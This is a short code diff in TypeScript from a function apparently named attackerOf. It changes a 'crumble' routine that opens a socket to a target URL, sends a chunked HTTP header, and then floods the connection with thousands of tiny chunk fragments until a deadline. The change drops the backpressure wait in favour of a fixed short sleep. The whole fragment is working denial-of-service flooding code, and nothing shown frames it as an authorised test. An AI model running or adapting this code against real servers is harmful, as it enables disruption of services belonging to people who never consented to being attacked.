@@ -202,11 +202,10 @@ function attackerOf({ url, tokens }: AttackTask, until: number): Attacker {
     },
     async crumble(token) {
       const socket = await opened();
-      const closed = once(socket, 'close').catch(() => undefined);
       socket.write(chunkedHead(token));
       while (!socket.destroyed && performance.now() < until) {
         const isTaken = socket.write('1\r\n \r\n'.repeat(2_000));
-        if (!isTaken) await Promise.race([once(socket, 'drain'), closed, sleep(1_000)]);
+        if (!isTaken) await sleep(10);
       }
       socket.destroy();
     },
